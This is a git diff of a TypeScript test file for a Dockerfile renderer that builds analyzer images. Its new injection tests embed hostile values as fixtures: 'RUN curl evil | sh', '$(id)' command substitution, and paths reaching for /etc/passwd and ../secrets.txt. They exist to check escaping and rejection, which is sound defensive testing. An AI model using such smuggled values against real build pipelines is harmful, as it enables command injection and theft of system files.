@@ -4,19 +4,17 @@ import path from 'node:path';
 import { describe, expect, it } from 'vitest';
 import type { Config } from '../../src/config/load-config.js';
 import type { Flavor, WorkerFolder } from '../../src/definitions/types.js';
-import { flavorEntrypoint, renderBuild } from '../../src/render/render-dockerfile.js';
+import { flavorEntrypoint, renderBuild, renderFlavor, type RenderSettings } from '../../src/render/render-dockerfile.js';
+import { TemplateSet } from '../../src/render/templates.js';
+import { testConfig } from '../helpers/config.js';
 
-const config: Config = {
-  registries: [],
-  baseImages: { python: 'mirror/python:3.11', go: 'mirror/go:1.19', node: 'mirror/node:18' },
-  packageIndex: { url: 'https://index.example/simple/', credentials: { username: 'u', password: 'index-secret' }, caPem: 'PEM' },
-  channel: 'stable',
-  output: '/tmp/out',
-  sources: [],
-};
 
-function flavor(command: string): Flavor {
-  return { file: 'x.json', id: 'X_1_0', definition: { name: 'X', version: '1.0', author: '', url: '', license: '', description: '', dataTypeList: [], command, baseConfig: 'X' } };
+function settings(config: Config = testConfig): RenderSettings {
+  return { config, baseImages: config.baseImages, templates: new TemplateSet(config.templates) };
+}
+
+function flavor(command: string, extra: Partial<Flavor['definition']> = {}): Flavor {
+  return { file: 'analyzers/X/X.json', id: 'X_1_0', definition: { name: 'X', version: '1.0', author: 'a', url: 'u', license: 'l', description: 'd', dataTypeList: [], command, baseConfig: 'X', ...extra } };
 }
 
 async function repoWith(directory: string, files: Record<string, string>): Promise<string> {
@@ -33,29 +31,38 @@ function worker(directory: string, runtime: WorkerFolder['runtime'], command: st
 describe('Dockerfile rendering', () => {
   it('python: installs requirements from the configured index in the builder stage only', async () => {
     const repo = await repoWith('Py', { 'py.py': '', 'requirements.txt': 'x\n' });
-    const build = await renderBuild(repo, worker('Py', 'python', 'Py/py.py'), 'requirements.txt', config, 'analyzers/Py');
+    const build = await renderBuild(repo, worker('Py', 'python', 'Py/py.py'), 'requirements.txt', settings());
     const [, builder = '', final = ''] = build.dockerfile.split(/\n(?=FROM )/);
     expect(builder).toContain('FROM mirror/python:3.11 AS builder');
     expect(builder).toContain('ARG PIP_INDEX_URL');
     expect(builder).toContain('COPY .neurons/index-ca.crt');
-    expect(final).not.toMatch(/PIP_|index-ca/);
-    expect(final).toContain('COPY worker/ /worker/Py/');
+    expect(builder).toContain('COPY ["worker/requirements.txt","/build/requirements.txt"]');
+    expect(final).not.toMatch(/PIP_|index-ca|pip install/);
+    expect(final).toContain('COPY ["worker/","/worker/Py/"]');
     expect(build.dockerfile).not.toContain('index-secret');
     expect(build.secretBuildArgs['PIP_INDEX_URL']).toBe('https://u:index-secret@index.example/simple/');
     expect(build.extraFiles.get('.neurons/index-ca.crt')?.toString()).toBe('PEM');
+    expect(build.templateId).toBe('python/2');
+  });
+
+  it('python: an extra index is a build argument of the builder stage too', async () => {
+    const repo = await repoWith('Py', { 'py.py': '', 'requirements.txt': 'x\n' });
+    const config = { ...testConfig, packageIndex: { ...testConfig.packageIndex!, extraUrl: 'https://extra.example/simple/' } };
+    const build = await renderBuild(repo, worker('Py', 'python', 'Py/py.py'), 'requirements.txt', settings(config));
+    expect(build.dockerfile).toContain('ARG PIP_EXTRA_INDEX_URL');
+    expect(build.secretBuildArgs['PIP_EXTRA_INDEX_URL']).toBe('https://u:index-secret@extra.example/simple/');
   });
 
   it('python without requirements: no pip step, no index', async () => {
     const repo = await repoWith('Py', { 'py.py': '' });
-    const build = await renderBuild(repo, worker('Py', 'python', 'Py/py.py'), undefined, config, 'analyzers/Py');
+    const build = await renderBuild(repo, worker('Py', 'python', 'Py/py.py'), undefined, settings());
     expect(build.dockerfile).not.toMatch(/pip install|PIP_INDEX_URL/);
     expect(build.secretBuildArgs).toEqual({});
   });
 
   it('go: static build, scratch final image, job adapter for stdin/stdout workers', async () => {
     const repo = await repoWith('Go', { 'go.mod': 'module x\n', 'main.go': 'package main\nfunc main() {}\n' });
-    const go = worker('Go', 'go', 'Go/bin/check');
-    const build = await renderBuild(repo, go, undefined, config, 'analyzers/Go');
+    const build = await renderBuild(repo, worker('Go', 'go', 'Go/bin/check'), undefined, settings());
     expect(build.dockerfile).toContain('ENV CGO_ENABLED=0');
     expect(build.dockerfile).toContain('-trimpath');
     expect(build.dockerfile).toContain('-o /out/bin/check .');
@@ -64,28 +71,73 @@ describe('Dockerfile rendering', () => {
     expect(flavorEntrypoint('go', flavor('Go/bin/check'), true)).toBe('["/usr/local/bin/neurons-job-adapter","/worker/Go/bin/check"]');
   });
 
-  it('go: no adapter for workers that read the job folder themselves', async () => {
-    const repo = await repoWith('Go', { 'go.mod': 'module x\n', 'main.go': 'package main\nconst in = "/job"\nfunc main() {}\n' });
-    const build = await renderBuild(repo, worker('Go', 'go', 'Go/check'), undefined, config, 'analyzers/Go');
-    expect(build.dockerfile).not.toContain('adapter');
+  it('go: the protocol is a per-worker setting, else read from the sources', async () => {
+    const reads = await repoWith('Go', { 'go.mod': 'module x\n', 'main.go': 'package main\nconst in = "/job"\nfunc main() {}\n' });
+    expect((await renderBuild(reads, worker('Go', 'go', 'Go/check'), undefined, settings())).dockerfile).not.toContain('adapter');
+    const forced = { ...testConfig, workers: { Go: { protocol: 'stdio' as const } } };
+    expect((await renderBuild(reads, worker('Go', 'go', 'Go/check'), undefined, settings(forced))).dockerfile).toContain('neurons-job-adapter');
     expect(flavorEntrypoint('go', flavor('Go/check'), false)).toBe('["/worker/Go/check"]');
   });
 
-  it('node and custom', async () => {
-    const repo = await repoWith('Js', { 'package.json': '{"dependencies":{"a":"1"}}', 'index.js': '', Dockerfile: 'FROM own\n' });
-    const node = await renderBuild(repo, worker('Js', 'node', 'Js/index.js'), undefined, config, 'analyzers/Js');
-    expect(node.dockerfile).toContain('FROM mirror/node:18');
-    expect(node.dockerfile).toContain('npm ci --omit=dev');
-    const custom = await renderBuild(repo, worker('Js', 'custom', 'Js/index.js'), undefined, config, 'analyzers/Js');
+  it('node: npm ci with a lockfile, from the configured npm registry', async () => {
+    const repo = await repoWith('Js', { 'package.json': '{"dependencies":{"a":"1"}}', 'package-lock.json': '{}', 'index.js': '' });
+    const config = { ...testConfig, npmRegistry: 'https://npm.example/' };
+    const build = await renderBuild(repo, worker('Js', 'node', 'Js/index.js'), undefined, settings(config));
+    expect(build.dockerfile).toContain('FROM mirror/node:18 AS builder');
+    expect(build.dockerfile).toContain('ARG NPM_CONFIG_REGISTRY');
+    expect(build.dockerfile).toContain('RUN npm ci --omit=dev');
+    expect(build.secretBuildArgs['NPM_CONFIG_REGISTRY']).toBe('https://npm.example/');
+    const bare = await repoWith('Js', { 'index.js': '' });
+    const simple = await renderBuild(bare, worker('Js', 'node', 'Js/index.js'), undefined, settings());
+    expect(simple.dockerfile).not.toMatch(/npm|AS builder/);
+  });
+
+  it('custom: the folder Dockerfile as is, base images as build arguments', async () => {
+    const repo = await repoWith('Own', { Dockerfile: 'FROM own\n', 'x.py': '' });
+    const custom = await renderBuild(repo, worker('Own', 'custom', 'Own/x.py'), undefined, settings());
     expect(custom.dockerfile).toBe('FROM own\n');
     expect(custom.contextPrefix).toBe('');
     expect(custom.buildArgs['NEURONS_BASE_PYTHON']).toBe('mirror/python:3.11');
-    expect(flavorEntrypoint('custom', flavor('Js/index.js'), false)).toBeUndefined();
+    expect(flavorEntrypoint('custom', flavor('Own/x.py'), false)).toBeUndefined();
+  });
+
+  it('a repository template overrides a built-in', async () => {
+    const repo = await repoWith('Py', { 'py.py': '' });
+    const template = path.join(repo, 'python.hbs');
+    await writeFile(template, 'FROM {{baseImage}}\nCOPY {{{copyWorker}}}\n');
+    const build = await renderBuild(repo, worker('Py', 'python', 'Py/py.py'), undefined, settings({ ...testConfig, templates: { python: template } }));
+    expect(build.dockerfile).toBe('FROM mirror/python:3.11\nCOPY ["worker/","/worker/Py/"]\n');
+    expect(build.templateId).toBe('python/custom');
   });
 
   it('fails with a coded error when a runtime has no base image', async () => {
     const repo = await repoWith('Js', { 'index.js': '' });
-    const bare = { ...config, baseImages: { python: undefined, go: undefined, node: undefined } };
-    await expect(renderBuild(repo, worker('Js', 'node', 'Js/index.js'), undefined, bare, 'analyzers/Js')).rejects.toMatchObject({ code: 'RENDER_NO_BASE_IMAGE', problem: { file: 'analyzers/Js' } });
+    const bare = { ...testConfig, baseImages: { python: undefined, go: undefined, node: undefined } };
+    await expect(renderBuild(repo, worker('Js', 'node', 'Js/index.js'), undefined, settings(bare))).rejects.toMatchObject({ code: 'RENDER_NO_BASE_IMAGE', problem: { file: 'analyzers/Js' } });
+  });
+});
+
+describe('injection through definition values', () => {
+  const source = { revision: undefined, created: undefined, url: undefined };
+  const base = { folderImage: 'f:1', worker: worker('X', 'python', 'X/x.py'), source, templateId: 'python/2', stdio: false };
+
+  it('renders hostile label values inert: one line, quotes, backslashes and $ escaped', () => {
+    const hostile = 'desc" \\\nRUN curl evil | sh\n$HOME ${PATH} \\';
+    const dockerfile = renderFlavor(new TemplateSet(), { ...base, flavor: flavor('X/x.py', { description: hostile, name: 'X"\nRUN id' }) });
+    const lines = dockerfile.split('\n');
+    expect(lines.filter((line) => /^\s*RUN/.test(line))).toEqual([]);
+    const description = lines.find((line) => line.includes('image.description=')) ?? '';
+    expect(description).toContain('"desc\\" \\\\\\nRUN curl evil | sh\\n\\$HOME \\${PATH} \\\\"');
+    expect(lines.find((line) => line.includes('image.title='))).toContain('"X\\"\\nRUN id"');
+  });
+
+  it('refuses a command, requirements file or folder that could change an instruction', async () => {
+    expect(() => flavorEntrypoint('python', flavor('X/x.py"]\nRUN id #'), false)).toThrow(expect.objectContaining({ code: 'RENDER_UNSAFE_VALUE', problem: expect.objectContaining({ pointer: '/command' }) }));
+    expect(() => flavorEntrypoint('python', flavor('X/$(id).py'), false)).toThrow(expect.objectContaining({ code: 'RENDER_UNSAFE_VALUE' }));
+    const repo = await repoWith('X', { 'x.py': '' });
+    await expect(renderBuild(repo, worker('X', 'python', 'X/x.py'), 'req.txt /etc/passwd\nRUN id', settings())).rejects.toMatchObject({ code: 'RENDER_UNSAFE_VALUE', problem: { pointer: '/requirements' } });
+    await expect(renderBuild(repo, worker('X', 'python', 'X/x.py'), '../secrets.txt', settings())).rejects.toMatchObject({ code: 'RENDER_UNSAFE_VALUE' });
+    const odd = await repoWith('X Y', { 'x.py': '' });
+    await expect(renderBuild(odd, worker('X Y', 'python', 'X Y/x.py'), undefined, settings())).rejects.toMatchObject({ code: 'RENDER_UNSAFE_VALUE', problem: { pointer: '/directory' } });
   });
 });
